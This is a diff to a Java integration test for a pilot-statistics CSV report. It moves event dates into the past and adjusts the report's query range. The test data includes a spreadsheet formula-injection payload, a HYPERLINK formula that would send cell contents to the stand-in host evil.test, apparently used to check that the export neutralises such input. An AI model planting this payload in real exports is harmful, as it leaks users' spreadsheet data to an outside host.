@@ -201,12 +201,13 @@ class PilotStatisticsIT implements TestPropertyProvider {
         UUID opportunity = UUID.randomUUID();
         String title = "=HYPERLINK(\"http://evil.test/?\"&A1,\"Voir\")";
         OpportunityState state = new OpportunityState(opportunity, buyer, "INSTITUTION", null, title, "-2+3", "OPEN", List.of("90100000"),
-                List.of("06"), List.of(), null, java.time.Instant.parse("2030-07-01T16:00:00Z"), "PUBLISHED", null, 0,
-                java.time.Instant.parse("2030-06-01T12:00:00Z"));
+                List.of("06"), List.of(), null, java.time.Instant.parse("2001-07-01T16:00:00Z"), "PUBLISHED", null, 0,
+                // a month of its own, long past: the consumers refuse events dated in the future
+                java.time.Instant.parse("2001-06-01T12:00:00Z"));
         TestEvents.send(service.kafkaBootstrapServers(), service.topicPrefix() + ContractsTopics.OPPORTUNITIES, opportunity.toString(),
                 OpportunityEventTypes.PUBLISHED_V1, json.writeValueAsString(state));
         String coordinator = tokens.token("COORDINATOR", null, List.of(pilot.pilot));
-        HttpRequest<?> csv = HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/csv/opportunities?from=2030-01&to=2030-12")
+        HttpRequest<?> csv = HttpRequest.GET("/api/reports/pilots/" + pilot.pilot + "/csv/opportunities?from=2001-01&to=2001-12")
                 .bearerAuth(coordinator);
         await().atMost(Duration.ofSeconds(30)).until(() -> http.toBlocking().retrieve(csv, String.class).contains(opportunity.toString()));
 
